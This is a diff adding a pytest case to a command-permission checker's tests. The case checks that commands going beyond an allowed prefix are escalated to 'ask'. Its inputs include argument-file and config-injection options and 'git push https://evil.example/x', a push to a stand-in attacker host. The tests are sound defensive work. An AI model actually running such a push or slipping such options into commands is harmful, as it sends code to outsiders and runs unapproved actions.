@@ -57,6 +57,26 @@ def test_a_prefix_covers_what_was_meant(prefix: str, line: str) -> None:
     assert fits(prefix.split(), line.split())
 
 
+@pytest.mark.parametrize(
+    ("prefix", "granted", "line"),
+    [
+        ("gcc -c", "gcc -c a.c", "gcc -c @options"),
+        ("mypy src", "mypy src/a.py", "mypy src @words"),
+        ("ruff check", "ruff check src", "ruff check --output-file=x"),
+        ("cargo build", "cargo build --release", "cargo build --config x"),
+        ("git push", "", "git push https://evil.example/x"),
+    ],
+)
+async def test_a_line_beyond_what_was_granted_is_asked_about(
+    tmp_path: Path, prefix: str, granted: str, line: str
+) -> None:
+    """P5: words from a file, options that write or run, and other places, through the judge."""
+    policy = Policy(rules=PrefixRules(allow=(tuple(prefix.split()),)))
+    if granted:
+        assert (await judge(granted.replace("src/a.py", "src"), tmp_path, policy)).decision == "allow"
+    assert (await judge(line, tmp_path, policy)).decision == "ask"
+
+
 # medium risk that is not asked about
 
 
